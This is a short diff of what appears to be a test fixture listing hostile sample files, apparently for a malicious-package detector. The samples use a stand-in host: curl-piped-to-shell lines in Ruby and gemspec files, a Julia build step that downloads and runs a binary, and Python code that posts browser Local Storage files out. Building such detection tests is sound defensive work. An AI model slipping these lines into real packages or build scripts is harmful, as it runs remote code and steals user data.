@@ -9,7 +9,7 @@ STRANGER = "https://x.invalid"
 HOSTILE = [
     ("a.gemspec", f'Gem::Specification.new do |s|\n s.metadata = {{ "b" => %x(curl -s {STRANGER}/b | ruby) }}\nend\n'),
     ("a.rb", f"x = %x{{curl -s {STRANGER}/b.sh | sh}}\n"),
-    ("build.jl", (f'u = Sys.iswindows() ? "{STRANGER}/w.exe" : "{STRANGER}/l"\nb = joinpath(d, "l")\n'
+    ("build.jl", (f'u = Sys.iswindows() ? "{STRANGER}/w.exe" : "{STRANGER}/l"\nb = joinpath(d, w ? "l.exe" : "l")\n'
      "download(u, b)\nrun(`$b -q`)\n")),
     ("a.py", ("import glob, os, requests\nfor p in glob.glob(os.path.join(x, 'Local Storage', 'leveldb', '*')):\n"
      f"    requests.post('{STRANGER}', data=open(p, 'rb').read())\n")),
